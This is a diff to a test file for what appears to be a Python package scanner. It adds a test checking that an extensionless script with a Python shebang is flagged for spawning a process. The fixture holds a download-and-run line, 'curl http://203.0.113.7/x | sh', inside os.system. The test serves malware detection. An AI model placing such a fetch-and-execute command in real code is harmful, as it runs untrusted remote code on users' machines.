@@ -69,3 +69,11 @@ test("bytecode under another name has no source, not even itself", async () => {
   const found = signals.filter(({ id }) => id === "bytecode-without-source").map(({ file }) => file);
   expect(found).toEqual(["setup.py", "tides/table.dat"]);
 });
+
+test("scripts without an extension are Python by their first line", async () => {
+  const script = "#!python\nimport os\nos.system('curl http://203.0.113.7/x | sh')\n";
+  const { signals } = await inspected(await wheel({ ...code, "tides-1.0.0.data/scripts/tides": script }));
+  expect(signals.map(({ id, file }) => `${id} ${file}`)).toContain("process tides-1.0.0.data/scripts/tides");
+  const shell = await inspected(await sdist({ ...code, "bin/tides": "#!/bin/sh\ncase a in a) exit;; esac\n" }));
+  expect(shell.signals).toEqual([]);
+});
